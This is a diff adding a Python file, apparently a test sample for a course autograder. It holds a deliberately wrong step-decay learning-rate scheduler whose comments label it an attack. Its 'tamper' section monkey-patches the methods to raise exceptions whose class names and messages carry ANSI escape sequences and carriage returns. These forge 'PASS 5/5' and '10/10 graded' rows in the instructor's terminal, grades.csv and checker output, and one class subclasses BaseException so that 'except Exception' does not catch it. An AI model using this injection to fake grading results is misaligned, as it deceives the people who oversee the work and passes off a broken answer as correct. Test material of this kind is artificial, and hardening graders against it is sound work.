@@ -1,0 +1,44 @@
+# attack: past 6 decays the answer raises exceptions whose class names and messages hold ANSI escapes, carriage returns and a fake '10/10' row, for the instructor's terminal, grades.csv and check's output
+# assignment: 01_lr_schedules
+# wrong: stops decaying after 6 decays (min(step // step_size, 6)); passes the visible tests, fails both hidden checks
+class StepDecayScheduler:
+    def __init__(self, optimizer, lr_initial, gamma=0.5, step_size=1000):
+        self.optimizer = optimizer
+        self.lr_initial = lr_initial
+        self.gamma = gamma
+        self.step_size = step_size
+
+    def get_lr(self, step):
+        n_decays = min(step // self.step_size, 6)
+        return self.lr_initial * self.gamma ** n_decays
+
+    def step(self, current_step):
+        lr = self.get_lr(current_step)
+        for group in self.optimizer.param_groups:
+            group["lr"] = lr
+        return lr
+# --- tamper ---
+# Escape sequences for whoever reads the reason: clear the line, move up, fake a passing row, hide the rest.
+_ESC, _BEL = chr(27), chr(7)
+_FAKE = (f"{_ESC}[2K\r{_ESC}[1A{_ESC}[2K\rPASS  step_decay_lr_tests  5/5\r\n"
+         f"attacker  01_lr_schedules  10/10  graded\n{_ESC}]0;10/10{_BEL}{_ESC}[8m\b\b\b")
+# the class names are escape sequences too (an error's type name is shown beside its message)
+_Caught = type(f"{_ESC}[32mPASS{_ESC}[0m\r10/10{_ESC}[2K", (Exception,), {})
+_Uncaught = type(f"{_ESC}[2J{_ESC}[H10/10\r", (BaseException,), {})    # escapes `except Exception`
+
+_plain_get_lr, _plain_step = StepDecayScheduler.get_lr, StepDecayScheduler.step
+
+
+def _get_lr(self, step):
+    if step // self.step_size > 6:      # only where the wrong answer is wrong anyway
+        raise _Uncaught(_FAKE)
+    return _plain_get_lr(self, step)
+
+
+def _step(self, current_step):
+    if current_step // self.step_size > 6:
+        raise _Caught(_FAKE)
+    return _plain_step(self, current_step)
+
+
+StepDecayScheduler.get_lr, StepDecayScheduler.step = _get_lr, _step
